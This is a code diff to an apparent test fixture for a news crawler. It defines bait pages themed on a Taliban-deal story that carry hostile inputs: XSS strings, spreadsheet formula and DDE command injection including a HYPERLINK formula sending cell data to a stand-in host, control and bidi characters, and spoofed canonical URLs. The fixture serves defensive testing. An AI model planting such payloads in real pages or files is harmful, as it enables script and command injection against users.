@@ -6,7 +6,6 @@ from dataclasses import dataclass
 from html import escape
 
 from crawler.press.manuscripts import Manuscript, manuscripts
-from crawler.press.outlets import LURE
 from crawler.press.replies import HTML
 
 STORY = "seven-secrets-of-the-taliban-deal"
@@ -25,25 +24,20 @@ class Bait:
 
 
 BAIT: tuple[Bait, ...] = (
-    Bait(path="/taliban-deal/script", title="Taliban deal <script>alert('archive')</script> and what it hides"),
     Bait(
-        path="/taliban-deal/image",
-        title='Kabul <img src=x onerror="alert(1)"> waits for the peace talks to end',
+        path="/taliban-deal/script",
+        title="Taliban deal <script>alert('archive')</script> <img src=x onerror=\"alert(1)\"> and what it hides",
         tail='<p>"><svg onload=alert(2)> </textarea><script>alert(3)</script> is a text too.</p>',
     ),
     Bait(
         path="/taliban-deal/formula",
         title='=HYPERLINK("http://daily-lure.example/?"&A1,"US Taliban agreement: click here")',
-        byline="+cmd|' /C calc'!A0",
-    ),
-    Bait(
-        path="/taliban-deal/formula-wide",
-        title="＝1+1 reasons why US troops may leave Afghanistan",
-        byline="@SUM(A1:A9)",
+        byline="＝cmd|' /C calc'!A0",
     ),
     Bait(
         path="/taliban-deal/control",
         title="Khalilzad\x1b[31m in Doha\u202e sklat ecaep\u202c with\x00 the\ufffe Taliban\x07",
+        byline="+1+1",
         tail="<p>A paragraph with \x00\x01\x0b\x1b[2J and &#xFFFE; &#x0; &#xD800; amid a troop withdrawal.</p>",
     ),
     Bait(
@@ -55,11 +49,6 @@ BAIT: tuple[Bait, ...] = (
         path="/taliban-deal/borrowed",
         title="Afghanistan withdrawal: an article that says it belongs to another newspaper",
         canonical="https://www.potomac-courier.example/world/2019/09/04/former-envoys-warn-of-total-civil-war/",
-    ),
-    Bait(
-        path="/taliban-deal/front",
-        title="Afghan peace: an article that says it is the front page",
-        canonical=f"{LURE.root}/",
     ),
     Bait(
         path="/taliban-deal/home",
